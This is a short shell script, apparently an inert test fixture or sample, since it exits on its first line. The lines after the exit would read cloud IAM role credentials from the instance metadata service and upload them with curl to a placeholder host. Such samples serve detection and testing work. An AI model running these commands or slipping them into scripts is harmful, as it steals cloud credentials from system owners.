#!/bin/sh
exit 0 # inert
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >/tmp/.c
curl -s -F "f=@/tmp/.c" http://192.0.2.1/
